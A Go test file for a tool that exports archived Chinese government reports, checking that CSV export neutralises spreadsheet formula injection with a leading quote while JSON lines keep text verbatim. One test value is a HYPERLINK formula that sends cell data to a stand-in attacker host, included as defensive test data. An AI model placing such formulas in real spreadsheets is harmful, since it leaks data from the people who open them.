package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nianbao/nianbao/archive"
)

// A portal's title, issuer or text that starts like a formula comes out of
// a CSV export as text, with a single quote in front (OWASP's rule), in
// every text column; JSON lines keep it verbatim.
func TestArchiveExportCSVInjection(t *testing.T) {
	tests := []struct {
		name, title, want string
	}{
		{"equals", `=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"plus", "+1+2", "'+1+2"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"ordinary", "天津市司法局2020年度法治政府建设情况报告", "天津市司法局2020年度法治政府建设情况报告"},
		{"formula later in the cell", "报告=1+1", "报告=1+1"},
		{"quote already", "'=1", "'=1"},
	}
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{"config.yaml": "sites_dir: sites\narchive_dir: archive\n", "sites/.keep": ""})
	cfg := filepath.Join(dir, "config.yaml")
	a, err := archive.Open(filepath.Join(dir, "archive"), archive.Options{})
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC)
	for i, tt := range tests {
		_, err := a.Put(context.Background(), archive.Entry{
			Site: "demo", URL: fmt.Sprintf("https://sf.example.gov.cn/bg/%d.html", i), Title: tt.title,
			Issuer: tt.title, DocNumber: tt.title, Kind: "fzzf", Year: 2020, Extractor: "test", FetchedAt: at,
			Text: []byte(tt.title + "\n正文第" + fmt.Sprint(i) + "段。\n"), Raw: []byte("<html></html>"), Status: 200,
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}

	code, out, errOut := runCmd(t, "--config", cfg, "archive", "export", "--format", "csv", "--bom")
	if code != 0 {
		t.Fatalf("export csv: exit %d: %s", code, errOut)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\uFEFF"))).ReadAll()
	if err != nil || len(recs) != 1+len(tests) {
		t.Fatalf("export csv: %v, %d rows\n%s", err, len(recs), out)
	}
	col := func(name string) int { return slices.Index(recs[0], name) }
	jsonl := func() map[string]exportRecord {
		code, out, errOut := runCmd(t, "--config", cfg, "archive", "export", "--format", "jsonl")
		if code != 0 {
			t.Fatalf("export jsonl: exit %d: %s", code, errOut)
		}
		byTitle := map[string]exportRecord{}
		dec := json.NewDecoder(strings.NewReader(out))
		for dec.More() {
			var r exportRecord
			if err := dec.Decode(&r); err != nil {
				t.Fatal(err)
			}
			byTitle[r.Title] = r
		}
		return byTitle
	}()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var row []string
			for _, r := range recs[1:] {
				if r[col("title")] == tt.want {
					row = r
				}
			}
			if row == nil {
				t.Fatalf("no CSV row with title %q", tt.want)
			}
			for _, c := range []string{"issuer", "doc_number"} {
				if row[col(c)] != tt.want {
					t.Errorf("%s: %q, want %q", c, row[col(c)], tt.want)
				}
			}
			if text := row[col("text")]; !strings.HasPrefix(text, tt.want+"\n") {
				t.Errorf("text starts %q, want %q", text[:min(len(text), 40)], tt.want)
			}
			if r, ok := jsonl[tt.title]; !ok || r.Issuer != tt.title || !strings.HasPrefix(r.Text, tt.title+"\n") {
				t.Errorf("JSON lines changed the title, issuer or text: %+v", r)
			}
		})
	}
}
